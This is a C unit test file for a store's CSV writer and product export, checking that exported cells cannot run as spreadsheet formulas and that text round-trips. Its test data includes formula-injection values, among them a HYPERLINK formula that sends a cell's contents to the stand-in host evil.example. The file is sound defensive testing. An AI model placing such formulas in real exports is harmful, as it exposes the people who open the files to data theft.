/* No CSV the store writes can run as a spreadsheet formula, and what it writes reads back
 * as it was. Rule, over seeded random text: a field written by csv_put_text starts (after
 * its opening quote) with none of = + - @ tab CR, and the CSV reader gives back the very
 * text. Then the product export of names that are formulas: each cell is guarded, and
 * importing the export into a new store gives the same names (a sheet's own guard, '=,
 * is taken off on the way in: it means the text =). POSD_SEED=N runs another
 * seed. */
#include <stdlib.h>
#include <string.h>

#include "catalog/catalog.h"
#include "catalog/csv.h"
#include "testlib.h"

static unsigned seed = 4242;

static unsigned rnd(unsigned n)
{
        seed = seed * 1103515245u + 12345u;
        return (seed >> 16) % n;
}

static bool formula_start(const char *cell)
{
        if (*cell == '"')
                cell++;
        return *cell && strchr("=+-@\t\r", *cell);
}

static void test_text_round_trip(void **state)
{
        static const char pool[] = "=+-@\t\r'\"a, 1\n退";
        const char *s = getenv("POSD_SEED");
        char text[8][24], *buf = NULL;
        size_t len = 0;
        (void)state;

        if (s)
                seed = (unsigned)strtoul(s, NULL, 10);
        for (int round = 0; round < 2000; round++) {
                FILE *f = open_memstream(&buf, &len);
                struct csv_reader r;
                size_t n = 1 + rnd(8);
                bool quote = rnd(2);

                for (size_t i = 0; i < n; i++) {
                        size_t k = rnd(6), o = 0;
                        for (size_t j = 0; j < k; j++) {
                                size_t at = rnd(sizeof(pool) - 1);
                                if ((unsigned char)pool[at] >= 0x80) /* the whole character */
                                        at = sizeof(pool) - 4;
                                memcpy(text[i] + o, pool + at, (unsigned char)pool[at] >= 0x80 ? 3 : 1);
                                o += (unsigned char)pool[at] >= 0x80 ? 3 : 1;
                        }
                        text[i][o] = '\0';
                        if (i == 0 && n == 1 && o == 0)
                                strcpy(text[i], "x"); /* a lone empty field is a blank line */
                        if (i + 1 == n && o && text[i][o - 1] == '\r')
                                strcpy(text[i] + o, "x"); /* the reader takes CR LF for the line's end */
                        csv_put_text(f, text[i], i + 1 < n ? ',' : '\n', quote);
                }
                fclose(f);
                /* every cell: no formula start */
                for (char *c = buf; *c;) {
                        if (formula_start(c))
                                fail_msg("round %d: a cell starts a formula: %s", round, buf);
                        /* to the next cell: past a quoted part, to the next comma or line */
                        bool q = false;
                        for (; *c; c++) {
                                if (*c == '"')
                                        q = !q;
                                else if (!q && (*c == ',' || *c == '\n'))
                                        break;
                        }
                        if (*c)
                                c++;
                }
                assert_non_null(f = fmemopen(buf, len, "r"));
                assert_int_equal(csv_reader_init(&r, f, 4096, 16), 0);
                assert_int_equal(csv_next(&r), 1);
                assert_int_equal(r.nfields, n);
                for (size_t i = 0; i < n; i++)
                        if (strcmp(r.fields[i], text[i]))
                                fail_msg("round %d field %zu: wrote '%s', read '%s' from %s", round, i, text[i],
                                         r.fields[i], buf);
                csv_reader_release(&r);
                fclose(f);
                free(buf);
                buf = NULL;
        }
}

static const char *const names[] = {
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1", "-1", "@SUM(A1:A9)", "'=already guarded",
        "'Tis the season", "=1+2, with a comma", "plain 苹果",
};

static void test_export_guarded_and_read_back(void **state)
{
        struct tstore a, b;
        char csv[4096], *out = NULL, *line;
        size_t len = 0, o;
        FILE *f;
        (void)state;

        o = (size_t)snprintf(csv, sizeof(csv), "sku,name,spec,barcode,price,cost,tax_rate,unit,category,stock,reorder_point,active\n");
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
                char quoted[128], *q = quoted;
                *q++ = '"';
                for (const char *s = names[i]; *s; s++) {
                        if (*s == '"')
                                *q++ = '"';
                        *q++ = *s;
                }
                *q++ = '"', *q = '\0';
                /* a name that a sheet would run is typed after an apostrophe there: import the
                 * formula itself as a plain field, '' as the text "'" */
                o += (size_t)snprintf(csv + o, sizeof(csv) - o, "F%zu,%s,=cmd,,1.00,0.50,13,pcs,@cat,0,0,1\n", i, quoted);
        }
        tstore_open(&a);
        assert_ok(a.l, timport(a.l, csv));
        assert_non_null(f = open_memstream(&out, &len));
        assert_true(catalog_export_products(a.l, f) > 0);
        fclose(f);
        /* each text cell of the F lines is guarded */
        for (line = strstr(out, "\nF"); line; line = strstr(line + 1, "\nF")) {
                char *c = line + 1;
                for (int col = 0; col < 9; col++) {
                        if (formula_start(c))
                                fail_msg("a formula in the export: %.80s", line + 1);
                        bool q = false;
                        for (; *c && (q || *c != ','); c++)
                                if (*c == '"')
                                        q = !q;
                        c += *c == ',';
                }
        }
        /* the export into a new store: the same names, spec and category */
        tstore_dir(&b);
        {
                struct store_setup st = { "Second store", "CNY", -1, false };
                struct ledger_error e;
                if (ledger_open(b.path, LEDGER_OPEN_CREATE, &b.l, &e) < 0)
                        fail_msg("open: %s", e.msg);
                assert_ok(b.l, store_init(b.l, &st));
        }
        assert_ok(b.l, timport(b.l, out));
        for (size_t i = 0; i < sizeof(names) / sizeof(names[0]); i++) {
                struct product p, was;
                char sku[8];
                snprintf(sku, sizeof(sku), "F%zu", i);
                assert_ok(a.l, product_get_by_sku(a.l, sku, &was));
                assert_ok(b.l, product_get_by_sku(b.l, sku, &p));
                assert_string_equal(p.name, was.name);
                /* a sheet's own guard is taken off on the way in: '= is the text = */
                assert_string_equal(was.name, names[i][0] == '\'' && names[i][1] == '=' ? names[i] + 1 : names[i]);
                assert_string_equal(p.spec, "=cmd");
                assert_string_equal(p.category, "@cat");
        }
        free(out);
        tstore_close(&a);
        tstore_close(&b);
}

int main(void)
{
        const struct CMUnitTest tests[] = {
                cmocka_unit_test(test_text_round_trip),
                cmocka_unit_test(test_export_guarded_and_read_back),
        };
        return cmocka_run_group_tests_name("csv_formulas", tests, NULL, NULL);
}
